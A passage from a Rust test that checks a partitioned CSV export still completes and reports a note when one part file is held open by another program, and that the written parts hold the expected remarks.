    assert_eq!(fs::read(&bystander).unwrap(), copied);
    // It comes back, into a third part. A program that has the file open does not keep the export from its end.
    let open = is_open.then(|| fake::open(&part("A.earlier")));
    let written = write(parted(), &[at(1, "B"), at(2, "C")]);
    let is_told =
        |note: &String| note.contains("A.earlier.csv is open in another program and stays");
    assert_eq!(
        written.notes.iter().any(is_told),
        is_open,
        "{:?}",
        written.notes
    );
    drop(open);
    assert_eq!(column(&read(&part("C"))[0].1, "Remark"), ["call 2"]);
    assert_eq!(column(&read(&part("B"))[0].1, "Remark"), ["call 1"]);
    assert_eq!(part("A.earlier").exists(), is_open);
}
